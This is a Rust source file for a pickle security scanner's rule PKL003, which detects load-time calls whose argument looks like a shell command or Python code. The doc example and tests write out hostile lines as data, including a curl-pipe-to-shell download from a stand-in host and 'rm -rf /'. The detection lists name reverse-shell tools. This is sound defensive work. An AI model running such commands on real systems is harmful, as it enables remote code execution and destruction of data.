//! ## What it does
//! Flags a call, made while unpickling, of a callable that is not known to be
//! safe, when an argument is a string that looks like a shell command or
//! Python source (`curl ... | sh`, `bash -c`, `__import__(`, `exec(`, ...).
//!
//! ## Why is this bad?
//! An unknown callable is only suspicious on its own; handing it a command line
//! or a piece of Python is strong evidence that it is a gadget being used to
//! run that code.
//!
//! ## Example
//! ```text
//! c    GLOBAL 'somepkg.utils run'
//! X    BINUNICODE 'curl http://x.example/p.sh | sh'
//! R    REDUCE                    -> somepkg.utils.run('curl http://x.example/p.sh | sh')
//! ```
//!
//! ## References
//! - Liu et al., "Hide and Seek: pickle-based model supply-chain attacks" (arXiv:2508.19774)
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PKL003",
    name: "code-string-argument",
    severity: Severity::High,
    summary: "an unvetted callable is called at load time with something that looks like a command or Python code",
    path: "pickle/code_string_argument",
};

/// True if `s` reads like a shell command line or Python source.
pub fn looks_like_code(s: &str) -> bool {
    let t = s.trim();
    if t.len() < 2 {
        return false;
    }
    const SHELL_WORDS: &[&str] = &[
        "sh",
        "bash",
        "zsh",
        "dash",
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "python",
        "python3",
        "perl",
        "ruby",
        "php",
        "powershell",
        "pwsh",
        "cmd",
        "cmd.exe",
        "rm",
        "chmod",
        "chown",
        "echo",
        "touch",
        "cat",
        "id",
        "whoami",
        "uname",
        "mkfifo",
        "telnet",
        "nohup",
        "base64",
        "/bin/sh",
        "/bin/bash",
        "/bin/echo",
        "/usr/bin/env",
    ];
    let first = t.split_whitespace().next().unwrap_or("");
    if SHELL_WORDS.contains(&first) && (t.contains(' ') || first.starts_with('/')) {
        return true;
    }
    const MARKERS: &[&str] = &[
        "$(",
        "`",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "&&",
        ">/dev/tcp",
        "/dev/tcp/",
        "import os",
        "import subprocess",
        "import socket",
        "__import__(",
        "exec(",
        "eval(",
        "os.system(",
        "os.popen(",
        "subprocess.",
        "socket.socket(",
        "pty.spawn(",
        "base64 -d",
        "compile(",
    ];
    MARKERS.iter().any(|m| t.contains(m))
}

#[cfg(test)]
mod tests {
    use super::looks_like_code;

    #[test]
    fn commands_and_code_are_recognised() {
        for s in
            ["curl http://x | sh", "bash -c 'id'", "__import__('os').system('x')", "echo hi && rm -rf /", "/bin/sh"]
        {
            assert!(looks_like_code(s), "{s}");
        }
        for s in ["relu", "model.layers.0.weight", "cat", "The quick brown fox", "|", "a; b"] {
            assert!(!looks_like_code(s), "{s}");
        }
    }
}
